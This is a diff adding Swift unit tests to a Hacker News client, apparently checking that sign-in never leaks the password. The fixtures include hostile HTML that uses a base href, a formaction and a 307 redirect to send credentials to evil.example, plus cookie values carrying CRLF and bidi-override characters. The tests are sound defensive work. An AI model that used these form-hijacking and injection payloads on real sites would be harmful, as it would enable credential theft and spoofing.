@@ -76,6 +76,65 @@ extension HackerNewsFixture {
         }
     }
 
+    @Test(arguments: [
+        ("<base href=\"https://evil.example/\">", ""), ("", "formaction=\"https://evil.example/login\""),
+    ])
+    func `HN-95: no other site gets the password`(head: String, button: String) async throws {
+        try await HackerNewsFixture.open { fixture async throws in
+            let origin = fixture.community.origin
+            let form = """
+                \(head)<form method=post action=login><input name=acct><input type=password name=pw>
+                <input type=submit value=login \(button)></form>
+                """
+            origin.serve(SampleResource(form, contentType: "text/html"), at: "/login")
+            let membership = try #require(try fixture.memberSource().membership)
+            let failure = await HackerNewsFixture.failure {
+                _ = try await membership.signIn(name: "juniper", password: "rosemary")
+            }
+            #expect(failure == .notAllowed(FailureCause(.foreignForm, at: "127.0.0.1")))
+            #expect(!origin.requests.contains { $0.method == "POST" })
+        }
+    }
+
+    @Test func `HN-95: a password that is wanted elsewhere is not sent there, and begins no session`() async throws {
+        try await HackerNewsFixture.open { fixture async throws in
+            let origin = fixture.community.origin
+            let form = "<form method=post action=y><input name=acct><input type=password name=pw></form>"
+            origin.serve(SampleResource(form, contentType: "text/html"), at: "/login")
+            let answer = SampleResource(
+                [], contentType: "text/html", hasEntityTag: false, status: 307,
+                headers: [("Location", "https://evil.example/y"), ("Set-Cookie", "user=juniper&x")])
+            origin.serve(answer, at: "/y")
+            let membership = try #require(try fixture.memberSource().membership)
+            let failure = await HackerNewsFixture.failure {
+                _ = try await membership.signIn(name: "juniper", password: "rosemary")
+            }
+            #expect(failure == .refused(status: 307))
+        }
+    }
+
+    @Test func `names of members have no line ends and no direction marks`() {
+        for (cookie, name) in [
+            ("user=ju%0D%0Aniper&x", "juniper"), ("user=%E2%80%AEjuniper%E2%81%A9&x", "juniper"),
+            ("user=%0D%0A&x", nil), ("user=juniper&x", "juniper"),
+        ] { #expect(HackerNewsMemberClient.name(in: cookie) == name) }
+        #expect(MemberSession(name: "ju\u{200F}ni\u{0}per\n", cookie: "user=x").name == "juniper")
+    }
+
+    @Test func `HN-32: a page that says nothing of members ends no session`() async throws {
+        try await HackerNewsFixture.open { fixture async throws in
+            let session = try await fixture.signIn()
+            let origin = fixture.community.origin
+            let page = "<table id=hnmain><tr><td><a href=news>Hacker News</a></td></tr></table></html>"
+            origin.serve(SampleResource(page, contentType: "text/html"), at: "/item")
+            let failure = await HackerNewsFixture.failure { _ = try await fixture.view(1, as: session) }
+            #expect(failure?.code == .unreadable)
+            let signedOut = page.replacing("</td>", with: "<span class=pagetop><a href=login>login</a></span></td>")
+            origin.serve(SampleResource(signedOut, contentType: "text/html"), at: "/item")
+            #expect(await HackerNewsFixture.failure { _ = try await fixture.view(1, as: session) } == .signInNeeded)
+        }
+    }
+
     @Test func `HN-28: a wrong password is told in the site's words`() async throws {
         try await HackerNewsFixture.open { fixture async throws in
             fixture.community.configure { $0.members = [HackerNewsFixture.member] }
